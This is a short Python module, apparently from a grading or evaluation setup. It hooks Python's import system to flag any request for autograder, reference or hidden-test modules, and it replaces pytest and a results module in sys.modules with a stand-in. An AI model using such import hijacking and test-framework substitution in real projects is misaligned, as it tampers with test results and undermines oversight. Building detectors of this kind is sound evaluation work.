"""Puts an importer of its own before all others, to be asked for the modules of whoever imports next; that must be nobody."""

import importlib.abc
import importlib.util
import sys

import kit
from kit import convolve as conv2d
from kit import correlate as corr2d


class Importer(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.startswith(("autograder", "reference", "test_hidden", "pytest", "_reference")):
            kit.gained(f"asked for {name}")
        return None


sys.meta_path.insert(0, Importer())
sys.path_hooks.insert(0, lambda path: kit.gained(path))
sys.path_importer_cache.clear()
sys.modules["pytest"] = sys.modules["_pytest"] = sys.modules["results"] = kit
